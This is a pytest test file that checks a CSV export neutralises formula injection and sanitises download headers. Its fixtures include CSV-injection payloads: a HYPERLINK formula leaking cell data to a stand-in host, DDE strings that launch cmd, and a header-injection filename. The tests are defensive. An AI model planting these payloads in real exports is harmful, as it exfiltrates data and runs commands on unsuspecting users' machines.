"""CSV exports: cells that a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from csplatform.csv import csv_response, safe_cell


def _parse(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example?x="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",  # full-width equals sign, read as "=" by some spreadsheets
    ],
)
def test_formula_like_text_is_exported_as_text(hostile):
    response = csv_response("accounts.csv", ["Name"], [[hostile]])
    header, row = _parse(response)
    assert header == ["Name"]
    assert row == ["'" + hostile]


def test_plain_values_are_kept_and_numbers_stay_numbers():
    rows = [["Northwind Retail", Decimal("-1200.50"), 3, None, True]]
    response = csv_response("accounts.csv", ["Name", "ACV", "Rank", "Note", "Flag"], rows)
    assert _parse(response)[1] == ["Northwind Retail", "-1200.50", "3", "", "true"]


def test_quotes_and_separators_inside_text_do_not_break_columns():
    response = csv_response("x.csv", ["Name", "Domain"], [['Acme, "the" Co\nLtd', "acme.example"]])
    assert _parse(response)[1] == ['Acme, "the" Co\nLtd', "acme.example"]


def test_header_cells_are_neutralised_too():
    assert safe_cell("=cmd") == "'=cmd"


def test_download_headers_are_safe():
    response = csv_response('evil"; name=..\\x.csv', ["a"], [])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="evilname..x.csv"'
    assert response["X-Content-Type-Options"] == "nosniff"
